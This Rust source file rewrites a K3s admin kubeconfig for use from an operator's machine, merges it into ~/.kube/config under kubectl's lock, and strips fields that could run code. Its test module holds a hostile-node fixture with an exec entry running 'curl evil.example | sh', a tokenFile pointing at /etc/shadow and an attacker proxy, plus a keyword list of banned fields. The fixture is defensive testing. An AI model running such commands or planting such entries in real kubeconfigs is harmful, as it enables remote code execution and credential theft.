//! The admin kubeconfig K3s writes on its first server, made usable from
//! the operator's machine: the server address rewritten from 127.0.0.1 to
//! a reachable address (TLS still verified against the cluster CA, whose
//! certificate holds that address as a SAN), and entries named after the
//! cluster so that merging into `~/.kube/config` never clobbers others.
//!
//! The file comes from a node, and root on a node must never run code on
//! the controller: it is rebuilt from the CA data, client certificate and
//! key alone, so `exec`, `auth-provider`, `tokenFile`, `proxy-url`,
//! `insecure-skip-tls-verify` and anything else it says are dropped.
//! Merging into a file kubectl uses takes kubectl's `FILE.lock` and
//! replaces the file atomically; a file that cannot be read or parsed is
//! never replaced.

use crate::write::Writer;
use std::io::ErrorKind;
use std::path::{Path, PathBuf};

use base64::Engine;
use serde_yaml_ng::{Mapping, Value};

#[derive(Debug, thiserror::Error)]
pub enum KubeconfigError {
    #[error("the kubeconfig is not valid YAML")]
    Yaml(#[source] serde_yaml_ng::Error),
    #[error("the kubeconfig has no {0} list")]
    Missing(&'static str),
    #[error("the server's kubeconfig has no {0} (base64 data written by K3s)")]
    MissingData(&'static str),
    #[error("{0} is not a list in the kubeconfig; refusing to rewrite it")]
    NotAList(&'static str),
    #[error("cannot read {path}; it is left as it is")]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{path} is not a kubeconfig pictl can merge into; it is left as it is")]
    Unparsable {
        path: PathBuf,
        #[source]
        source: Box<KubeconfigError>,
    },
    #[error(
        "{lock} exists: kubectl or another pictl is writing {path} (remove the lock if it is stale)"
    )]
    Locked { path: PathBuf, lock: PathBuf },
    #[error("cannot take the lock {lock}")]
    Lock {
        lock: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("writing {path}")]
    Write {
        path: PathBuf,
        #[source]
        source: crate::state::StateError,
    },
}

/// A kubeconfig for `api_url` with the cluster, user and context all
/// named `name`, rebuilt from K3s's CA data and admin client certificate
/// and key: nothing else of the server's file survives.
pub fn rewrite(k3s_yaml: &str, name: &str, api_url: &str) -> Result<String, KubeconfigError> {
    let doc: Value = serde_yaml_ng::from_str(k3s_yaml).map_err(KubeconfigError::Yaml)?;
    // K3s writes exactly one of each, all named "default".
    let first = |list: &'static str, inner: &str| {
        doc.get(list)
            .and_then(Value::as_sequence)
            .and_then(|s| s.first())
            .and_then(|item| item.get(inner))
            .ok_or(KubeconfigError::Missing(list))
    };
    let data = |v: &Value, key: &'static str| {
        v.get(key)
            .and_then(Value::as_str)
            .filter(|d| base64::engine::general_purpose::STANDARD.decode(d).is_ok())
            .map(|d| Value::from(d.to_string()))
            .ok_or(KubeconfigError::MissingData(key))
    };
    let cluster = first("clusters", "cluster")?;
    let user = first("users", "user")?;
    let entry = |inner: &str, body: Vec<(&str, Value)>| {
        let body: Mapping = body.into_iter().map(|(k, v)| (k.into(), v)).collect();
        let item: Mapping = [("name".into(), name.into()), (inner.into(), body.into())]
            .into_iter()
            .collect();
        Value::Sequence(vec![item.into()])
    };
    let ca = data(cluster, "certificate-authority-data")?;
    let cert = data(user, "client-certificate-data")?;
    let key = data(user, "client-key-data")?;
    let out: Mapping = [
        ("apiVersion", "v1".into()),
        ("kind", "Config".into()),
        (
            "clusters",
            entry(
                "cluster",
                vec![
                    ("certificate-authority-data", ca),
                    ("server", api_url.into()),
                ],
            ),
        ),
        (
            "contexts",
            entry(
                "context",
                vec![("cluster", name.into()), ("user", name.into())],
            ),
        ),
        ("current-context", name.into()),
        (
            "users",
            entry(
                "user",
                vec![("client-certificate-data", cert), ("client-key-data", key)],
            ),
        ),
    ]
    .into_iter()
    .map(|(k, v)| (k.into(), v))
    .collect();
    serde_yaml_ng::to_string(&out).map_err(KubeconfigError::Yaml)
}

/// Merges `ours` into the kubeconfig at `path` (created when absent), as
/// kubectl does: under `path.lock`, replaced atomically, mode 0600. A file
/// that cannot be read or parsed is left untouched and the merge fails.
pub fn merge_into_file(path: &Path, ours: &str, w: &Writer) -> Result<(), KubeconfigError> {
    edit_file(path, |existing| merge(existing, ours), w)
}

/// Removes the cluster, user and context named `name` from the kubeconfig
/// at `path` (a reset cluster), under the same lock and atomic write; a
/// missing file is nothing to do.
pub fn forget_in_file(path: &Path, name: &str, w: &Writer) -> Result<(), KubeconfigError> {
    if !path.exists() {
        return Ok(());
    }
    // Checked again under the lock: a file removed meanwhile stays removed.
    let forget_ours = |existing: Option<&str>| match existing {
        Some(text) => forget(text, name),
        None => Err(KubeconfigError::Missing("the file (removed meanwhile)")),
    };
    edit_file(path, forget_ours, w)
}

/// Rewrites `path` with what `f` makes of its current text, holding
/// kubectl's lock; never replaces a file it could not read or parse.
fn edit_file(
    path: &Path,
    f: impl FnOnce(Option<&str>) -> Result<String, KubeconfigError>,
    w: &Writer,
) -> Result<(), KubeconfigError> {
    let _lock = FileLock::take(path)?;
    let existing = match std::fs::read_to_string(path) {
        Ok(text) => Some(text),
        Err(e) if e.kind() == ErrorKind::NotFound => None,
        Err(source) => {
            return Err(KubeconfigError::Read {
                path: path.to_path_buf(),
                source,
            });
        }
    };
    let edited = f(existing.as_deref()).map_err(|e| KubeconfigError::Unparsable {
        path: path.to_path_buf(),
        source: Box::new(e),
    })?;
    crate::state::write_private(path, edited.as_bytes(), w).map_err(|source| {
        KubeconfigError::Write {
            path: path.to_path_buf(),
            source,
        }
    })
}

/// `existing` without the cluster, user and context named `name`; the
/// current context is cleared when it was that one.
pub fn forget(existing: &str, name: &str) -> Result<String, KubeconfigError> {
    let mut base: Value = serde_yaml_ng::from_str(existing).map_err(KubeconfigError::Yaml)?;
    let Some(map) = base.as_mapping_mut() else {
        return Err(KubeconfigError::Missing("top-level"));
    };
    for list in ["clusters", "users", "contexts"] {
        match map.get_mut(list) {
            Some(Value::Sequence(seq)) => {
                seq.retain(|e| e.get("name").and_then(Value::as_str) != Some(name))
            }
            Some(Value::Null) | None => {}
            Some(_) => return Err(KubeconfigError::NotAList(list)),
        }
    }
    if map.get("current-context").and_then(Value::as_str) == Some(name) {
        map.insert("current-context".into(), "".into());
    }
    serde_yaml_ng::to_string(&base).map_err(KubeconfigError::Yaml)
}

/// client-go's kubeconfig lock: `FILE.lock`, created exclusively, removed
/// when dropped; an interrupt waits for it (`interrupt::Hold`), so Ctrl-C
/// never leaves kubectl locked out of its own file.
struct FileLock {
    lock: PathBuf,
    /// Declared last: released after `drop` removed the lock file.
    _hold: crate::interrupt::Hold,
}

impl FileLock {
    fn take(path: &Path) -> Result<FileLock, KubeconfigError> {
        let hold = crate::interrupt::Hold::take();
        let mut name = path.as_os_str().to_owned();
        name.push(".lock");
        let lock = PathBuf::from(name);
        if let Some(dir) = lock.parent().filter(|d| !d.as_os_str().is_empty()) {
            std::fs::create_dir_all(dir).map_err(|source| KubeconfigError::Lock {
                lock: lock.clone(),
                source,
            })?;
        }
        match std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&lock)
        {
            Ok(_) => Ok(FileLock { lock, _hold: hold }),
            Err(e) if e.kind() == ErrorKind::AlreadyExists => Err(KubeconfigError::Locked {
                path: path.to_path_buf(),
                lock,
            }),
            Err(source) => Err(KubeconfigError::Lock { lock, source }),
        }
    }
}

impl Drop for FileLock {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.lock);
    }
}

/// Merges `ours` (a rewritten kubeconfig) into `existing`: entries with
/// our name are replaced, all others kept; the current context is only set
/// when `existing` had none.
pub fn merge(existing: Option<&str>, ours: &str) -> Result<String, KubeconfigError> {
    let ours: Value = serde_yaml_ng::from_str(ours).map_err(KubeconfigError::Yaml)?;
    let mut base: Value = match existing.filter(|s| !s.trim().is_empty()) {
        Some(text) => serde_yaml_ng::from_str(text).map_err(KubeconfigError::Yaml)?,
        None => {
            let mut m = Mapping::new();
            m.insert("apiVersion".into(), "v1".into());
            m.insert("kind".into(), "Config".into());
            Value::Mapping(m)
        }
    };
    let Some(base_map) = base.as_mapping_mut() else {
        return Err(KubeconfigError::Missing("top-level"));
    };
    for list in ["clusters", "users", "contexts"] {
        let new_items = ours
            .get(list)
            .and_then(Value::as_sequence)
            .cloned()
            .unwrap_or_default();
        let entry = base_map
            .entry(list.into())
            .or_insert_with(|| Value::Sequence(Vec::new()));
        if entry.is_null() {
            *entry = Value::Sequence(Vec::new());
        }
        let Some(seq) = entry.as_sequence_mut() else {
            return Err(KubeconfigError::NotAList(list));
        };
        for item in new_items {
            let name = item.get("name").cloned();
            match seq.iter_mut().find(|e| e.get("name") == name.as_ref()) {
                Some(slot) => *slot = item,
                None => seq.push(item),
            }
        }
    }
    let has_current = base_map
        .get("current-context")
        .and_then(Value::as_str)
        .is_some_and(|s| !s.is_empty());
    if !has_current && let Some(cur) = ours.get("current-context") {
        base_map.insert("current-context".into(), cur.clone());
    }
    serde_yaml_ng::to_string(&base).map_err(KubeconfigError::Yaml)
}

#[cfg(test)]
mod tests {
    use super::*;

    const K3S: &str = "apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: Q0E=
    server: https://127.0.0.1:6443
  name: default
contexts:
- context:
    cluster: default
    user: default
  name: default
current-context: default
kind: Config
preferences: {}
users:
- name: default
  user:
    client-certificate-data: Q0VSVA==
    client-key-data: S0VZ
";

    #[test]
    fn rewrite_points_at_the_api_address_and_names_everything() {
        let out = rewrite(K3S, "playson", "https://192.168.0.196:6443").expect("rewrite");
        let v: Value = serde_yaml_ng::from_str(&out).expect("yaml");
        assert_eq!(
            v["clusters"][0]["cluster"]["server"],
            "https://192.168.0.196:6443"
        );
        assert_eq!(
            v["clusters"][0]["cluster"]["certificate-authority-data"],
            "Q0E="
        );
        assert_eq!(v["contexts"][0]["name"], "playson");
        assert_eq!(v["contexts"][0]["context"]["user"], "playson");
        assert_eq!(v["users"][0]["name"], "playson");
        assert_eq!(v["current-context"], "playson");
    }

    #[test]
    fn merge_keeps_other_contexts_and_the_current_one() {
        let ours = rewrite(K3S, "playson", "https://10.0.0.1:6443").expect("rewrite");
        let other = rewrite(K3S, "work", "https://work:6443").expect("rewrite");
        let merged = merge(Some(&other), &ours).expect("merge");
        let v: Value = serde_yaml_ng::from_str(&merged).expect("yaml");
        let names: Vec<&str> = v["contexts"]
            .as_sequence()
            .expect("seq")
            .iter()
            .filter_map(|c| c["name"].as_str())
            .collect();
        assert_eq!(names, ["work", "playson"]);
        assert_eq!(v["current-context"], "work");
        // Merging again replaces, never duplicates.
        let again = merge(Some(&merged), &ours).expect("merge");
        assert_eq!(again, merged);
    }

    #[test]
    fn forgetting_a_cluster_keeps_the_others() {
        let ours = rewrite(K3S, "lab", "https://10.0.0.1:6443").expect("rewrite");
        let other = rewrite(K3S, "home", "https://10.0.0.9:6443").expect("rewrite");
        let both = merge(Some(&merge(None, &other).expect("merge")), &ours).expect("merge");
        let left = forget(&both, "lab").expect("forget");
        let v: Value = serde_yaml_ng::from_str(&left).expect("yaml");
        for list in ["clusters", "users", "contexts"] {
            let names: Vec<&str> = v[list]
                .as_sequence()
                .expect("list")
                .iter()
                .filter_map(|e| e["name"].as_str())
                .collect();
            assert_eq!(names, ["home"], "{list}");
        }
        assert_eq!(v["current-context"], "home");
        let only = forget(&merge(None, &ours).expect("merge"), "lab").expect("forget");
        let v: Value = serde_yaml_ng::from_str(&only).expect("yaml");
        assert_eq!(v["current-context"], "");
    }

    #[test]
    fn merge_into_nothing_sets_the_context() {
        let ours = rewrite(K3S, "lab", "https://10.77.0.11:6443").expect("rewrite");
        let v: Value = serde_yaml_ng::from_str(&merge(None, &ours).expect("merge")).expect("yaml");
        assert_eq!(v["current-context"], "lab");
    }

    /// K3s's file as a hostile node could serve it.
    fn hostile() -> String {
        K3S.replace(
            "  name: default\ncontexts:",
            "    insecure-skip-tls-verify: true
    proxy-url: http://evil.example:3128
  name: default
- cluster:
    server: https://evil.example
  name: extra
contexts:",
        )
        .replace(
            "    client-key-data: S0VZ\n",
            "    client-key-data: S0VZ
    tokenFile: /etc/shadow
    exec:
      apiVersion: client.authentication.k8s.io/v1
      command: /bin/sh
      args: [-c, 'curl evil.example | sh']
    auth-provider:
      name: oidc
",
        )
    }

    #[test]
    fn rewrite_keeps_only_ca_data_client_certificate_and_key() {
        let hostile = hostile();
        assert!(hostile.contains("exec:") && hostile.contains("proxy-url"));
        let out = rewrite(&hostile, "playson", "https://192.168.0.196:6443").expect("rewrite");
        for bad in [
            "exec",
            "command",
            "auth-provider",
            "tokenFile",
            "proxy-url",
            "insecure",
            "evil",
            "127.0.0.1",
        ] {
            assert!(!out.contains(bad), "{bad} survived:\n{out}");
        }
        let v: Value = serde_yaml_ng::from_str(&out).expect("yaml");
        assert_eq!(v["clusters"].as_sequence().map(Vec::len), Some(1));
        assert_eq!(v["users"][0]["user"]["client-key-data"], "S0VZ");
        assert_eq!(
            v["clusters"][0]["cluster"]["certificate-authority-data"],
            "Q0E="
        );
        let cluster = v["clusters"][0]["cluster"].as_mapping().expect("mapping");
        assert_eq!(cluster.len(), 2, "{out}");
        assert_eq!(
            v["users"][0]["user"].as_mapping().map(Mapping::len),
            Some(2),
            "{out}"
        );
    }

    #[test]
    fn rewrite_refuses_a_user_without_certificate_data() {
        let exec_only = K3S.replace(
            "    client-certificate-data: Q0VSVA==\n    client-key-data: S0VZ\n",
            "    exec:\n      command: /bin/sh\n",
        );
        let err = rewrite(&exec_only, "lab", "https://10.0.0.1:6443").expect_err("no cert");
        assert!(
            matches!(err, KubeconfigError::MissingData("client-certificate-data")),
            "{err}"
        );
        let not_base64 = K3S.replace("client-key-data: S0VZ", "client-key-data: '!!'");
        assert!(rewrite(&not_base64, "lab", "https://10.0.0.1:6443").is_err());
    }

    fn ours() -> String {
        rewrite(K3S, "lab", "https://10.77.0.11:6443").expect("rewrite")
    }

    fn lock_of(path: &Path) -> PathBuf {
        PathBuf::from(format!("{}.lock", path.display()))
    }

    #[test]
    fn merge_into_file_writes_0600_and_removes_its_lock() {
        use std::os::unix::fs::PermissionsExt;
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("config");
        merge_into_file(&path, &ours(), &Writer::for_apply()).expect("merge");
        let mode = std::fs::metadata(&path)
            .expect("written")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
        let left: Vec<_> = std::fs::read_dir(dir.path()).expect("dir").collect();
        assert_eq!(left.len(), 1, "a lock or temp file was left: {left:?}");
        let v: Value =
            serde_yaml_ng::from_str(&std::fs::read_to_string(&path).expect("read")).expect("yaml");
        assert_eq!(v["current-context"], "lab");
    }

    #[test]
    fn a_file_that_cannot_be_parsed_is_never_replaced() {
        let dir = tempfile::tempdir().expect("tempdir");
        for (name, text) in [
            ("garbage", "clusters: [unclosed\n"),
            ("scalar", "just a string\n"),
            ("not-a-list", "apiVersion: v1\nclusters: {a: b}\n"),
        ] {
            let path = dir.path().join(name);
            std::fs::write(&path, text).expect("write");
            let err = merge_into_file(&path, &ours(), &Writer::for_apply()).expect_err(name);
            assert!(
                matches!(err, KubeconfigError::Unparsable { .. }),
                "{name}: {err}"
            );
            assert_eq!(std::fs::read_to_string(&path).expect("read"), text);
            assert!(!lock_of(&path).exists(), "{name}: the lock was left");
        }
        // Unreadable (a directory): the same.
        let path = dir.path().join("a-directory");
        std::fs::create_dir(&path).expect("mkdir");
        let err = merge_into_file(&path, &ours(), &Writer::for_apply()).expect_err("a directory");
        assert!(matches!(err, KubeconfigError::Read { .. }), "{err}");
        assert!(path.is_dir());
    }

    #[test]
    fn an_interrupt_waits_until_the_write_removed_kubectls_lock() {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("config");
        let lock = FileLock::take(&path).expect("lock");
        assert!(lock_of(&path).exists());
        let waiter = std::thread::spawn(|| {
            crate::interrupt::wait_for_writes(std::time::Duration::from_secs(10))
        });
        std::thread::sleep(std::time::Duration::from_millis(100));
        assert!(
            !waiter.is_finished(),
            "the interrupt went on during the write"
        );
        drop(lock);
        assert!(waiter.join().expect("join"));
        assert!(!lock_of(&path).exists(), "the lock outlived the write");
    }

    #[test]
    fn a_file_kubectl_has_locked_is_left_alone_and_so_is_its_lock() {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("config");
        std::fs::write(&path, "apiVersion: v1\nkind: Config\n").expect("write");
        std::fs::write(lock_of(&path), "").expect("kubectl's lock");
        let err = merge_into_file(&path, &ours(), &Writer::for_apply()).expect_err("locked");
        assert!(matches!(err, KubeconfigError::Locked { .. }), "{err}");
        assert!(err.to_string().contains("config.lock"), "{err}");
        assert!(lock_of(&path).exists(), "someone else's lock was removed");
        assert_eq!(
            std::fs::read_to_string(&path).expect("read"),
            "apiVersion: v1\nkind: Config\n"
        );
    }
}
